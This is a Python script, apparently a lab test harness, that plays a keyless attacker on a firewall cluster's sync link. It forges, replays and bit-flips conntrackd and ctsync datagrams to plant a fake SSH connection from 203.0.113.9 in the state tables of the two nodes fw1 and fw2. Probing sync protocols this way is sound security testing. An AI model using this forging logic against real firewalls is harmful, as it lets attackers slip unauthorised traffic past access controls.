"""An attacker on the dedicated link who has no key: listens, then sends what no peer has sent.

usage: forge.py conntrackd-flow SOURCE       one datagram: conntrackd's message about a forged connection
       forge.py conntrackd-silence SOURCE    one datagram of 8 bytes: conntrackd's keepalive, its number far ahead
       forge.py ctsync-flow SOURCE           one datagram: the same connection in ctsync's format, without a seal
       forge.py all SOURCE                   some thousand: all of these, and what else can be made of what was heard

SOURCE is the IPv4 address that they seem to come from; "peer" is that of the node in whose name they are; of several with
commas between them, each sends everything. Single ones go from fw1 to fw2, the others both ways. Prints how many reach
each node: "fw1 1200 fw2 1300". The forged connection is TCP 203.0.113.9:40000 to 10.1.0.22:22, established and assured."""
import random
import sys

import conntrackd
import wire
from knowledge import listen
from segment import GROUP, Sender, frame

FORGED = ("203.0.113.9", 40000, "10.1.0.22", 22)
GENUINE = ("10.98.0.0", 1024, "10.99.0.1", 443)         # number 0 of inject.py
RATE = 4000                                             # a second: not a test of the socket buffer
STRANGER = 0x0A0A0363
AHEAD = (1, 2, 8, 100, 4095, 4096, 1 << 20, 1 << 32)
LARGEST = (1 << 53) - 1
NEWEST = 1 << 40                                        # newer than any genuine version


def flipped(payload, bit):
    changed = bytearray(payload)
    changed[bit // 8] ^= 0x80 >> bit % 8
    return bytes(changed)


def resealed(payload):
    """With a right checksum, which is what a seal is without a key."""
    return wire.checked(payload[:-4])


class Forger:
    """Datagrams for one node in the name of the other one."""

    def __init__(self, victim, peer, chance):
        self.victim, self.peer, self.chance = victim, peer, chance
        self.key = wire.tcp_key(*FORGED)

    def all(self):
        yield from self.of_conntrackd()
        yield from self.records()
        yield from self.hellos()
        yield from self.seals()
        yield from self.overheard()

    def of_conntrackd(self):
        for sequence in (1, 2, 1000, 1 << 31, (1 << 32) - 1):
            yield conntrackd.flow(sequence, *FORGED)
            yield conntrackd.alive(sequence)

    def records(self):
        """Well-formed frames without a seal, of the right epoch and of others."""
        latest, me, you = self.peer.latest, self.peer.node, self.victim.node
        flow, gone = wire.set_flow(NEWEST, self.key), wire.delete_flow(NEWEST, wire.tcp_key(*GENUINE))
        everything = [
            flow, gone, [wire.BULK_BEGIN, you, 1 << 20], [wire.BULK_END, you, 1 << 20], [wire.RESYNC, you, 1 << 20],
            [wire.ALIVE], wire.ack(you, self.victim.latest.tag, self.victim.latest.sequence + 1000),
        ]
        sequences = [latest.sequence + ahead for ahead in AHEAD] + [LARGEST, latest.sequence, 1]
        for sequence in sequences:
            for record in everything:
                yield wire.plain(me, latest.tag, sequence, record)
            yield wire.plain(me, latest.tag, sequence, *everything)
        for sender in (you, STRANGER, 0, 0xFFFFFFFF):
            yield wire.plain(sender, latest.tag, latest.sequence + 1, flow)
        for tag in (0, 1, latest.tag ^ 1, self.victim.latest.tag):
            yield wire.plain(me, tag, latest.sequence + 1, flow)

    def hellos(self):
        """A restart that did not happen, a peer that does not hear any more, nodes that are not there."""
        seen, chance = self.peer.hello, self.chance
        challenges = [chance.randbytes(16)]
        readable = seen.suite == wire.PLAIN
        if readable and self.victim.hello:
            for element in self.victim.hello.first_record():
                for entry in element if isinstance(element, list) else []:
                    challenges += [part for part in entry[3:] if isinstance(part, bytes) and len(part) == 16]
        senders = [self.peer.node] * 4 + [STRANGER + n for n in range(20)]
        for n, sender in enumerate(senders):
            for echo in challenges:
                record = wire.own_hello(self.victim.node, chance.randbytes(16), echo, self.victim.latest.tag)
                yield wire.hello(sender, chance.randbytes(16), 1 + n, record)
                if readable:
                    record = wire.changed_hello(
                        seen.first_record(), lambda entry, echo=echo: entry[:3] + [chance.randbytes(16), echo] + entry[5:])
                    yield wire.hello(sender, chance.randbytes(16), 1 + n, record)
        for ahead in AHEAD:
            record = wire.own_hello(self.victim.node, chance.randbytes(16), b"", 0)
            if readable:
                record = wire.changed_hello(seen.first_record(), lambda entry: [entry[0], 0, 0] + entry[3:])
            yield wire.hello(self.peer.node, seen.epoch, self.peer.latest.sequence + ahead, record)

    def seals(self):
        """Frames that look sealed."""
        latest, chance = self.peer.latest, self.chance
        for suite in (wire.AES, wire.CHACHA, 3, 255):
            for key_id in (0, 1, 2, 255):
                for ahead in AHEAD:
                    yield wire.sealed(chance, latest.sender, latest.tag, latest.sequence + ahead, suite, key_id)
                epoch = chance.randbytes(16)
                tag = int.from_bytes(epoch[:4], "big")
                yield wire.sealed(chance, latest.sender, tag, 1, suite, key_id, wire.HELLO, epoch)
                yield wire.sealed(chance, latest.sender, latest.tag, latest.sequence + 1, suite, key_id, size=0)

    def overheard(self):
        """Genuine frames once more, and changed in every place."""
        chance = self.chance
        frames, others = self.peer.frames[-100:], self.victim.frames[-100:]
        for seen in frames:
            yield seen.payload
            yield seen.changed(sender=STRANGER)
            for ahead in (1, 5000, 1 << 32):
                yield seen.changed(sequence=self.peer.latest.sequence + ahead)
        for seen in others:                             # the victim's own, as they are and in the peer's name
            yield seen.payload
            yield seen.changed(sender=self.peer.node)
            yield seen.changed(sender=self.peer.node, tag=self.peer.latest.tag, sequence=self.peer.latest.sequence + 1)
        for seen in (self.peer.latest, self.peer.hello):
            for bit in range(seen.body * 8):
                yield flipped(seen.payload, bit)
            for _ in range(200):
                yield flipped(seen.payload, chance.randrange(len(seen.payload) * 8))
            for bit in range(32, seen.body * 8):        # and with a checksum that is right again
                if seen.suite == wire.PLAIN:
                    yield resealed(flipped(seen.payload, bit))
            for length in range(0, len(seen.payload), 7):
                yield seen.payload[:length]
            yield seen.payload + chance.randbytes(16)
            if seen.suite != wire.PLAIN:
                yield wire.checked(seen.changed(suite=wire.PLAIN, key_id=0, generation=0))


def single(what, victim, peer):
    if what == "ctsync-flow":
        latest = peer.latest
        # ahead of what the genuine node says meanwhile: each number counts once
        return wire.plain(latest.sender, latest.tag, latest.sequence + 1000, wire.set_flow(NEWEST, wire.tcp_key(*FORGED)))
    if peer.sequence is None:
        sys.exit("forge.py: conntrackd was not heard")
    if what == "conntrackd-flow":
        return conntrackd.flow(peer.sequence + 100, *FORGED)
    return conntrackd.alive(peer.sequence + (1 << 24))


def main(what, source):
    nodes = listen(8)
    fw1, fw2 = nodes["fw1"], nodes["fw2"]
    if not (fw1.is_known and fw2.is_known):
        sys.exit("forge.py: not enough was heard: " + repr([(node.address, len(node.payloads)) for node in nodes.values()]))
    payloads = {"fw1": [], "fw2": []}
    if what == "all":
        payloads["fw2"] = list(Forger(fw2, fw1, random.Random(1)).all())
        payloads["fw1"] = list(Forger(fw1, fw2, random.Random(2)).all())
    else:
        payloads["fw2"] = [single(what, fw2, fw1)]
    frames = []
    reached = dict.fromkeys(nodes, 0)
    for victim, peer in (("fw2", fw1), ("fw1", fw2)):
        to, target = peer.sends_to
        for each in payloads[victim]:
            for address in source.split(","):
                address = peer.address if address == "peer" else address
                frames.append(frame(to, address, target, each))
                for name, node in nodes.items():        # a kernel drops what has its own address
                    reached[name] += name == victim or (target == GROUP and address != node.address)
    Sender().send(frames, RATE)
    print("fw1 %(fw1)d fw2 %(fw2)d" % reached)


if __name__ == "__main__":
    if len(sys.argv) != 3 or sys.argv[1] not in ("conntrackd-flow", "conntrackd-silence", "ctsync-flow", "all"):
        sys.exit(__doc__)
    main(sys.argv[1], sys.argv[2])
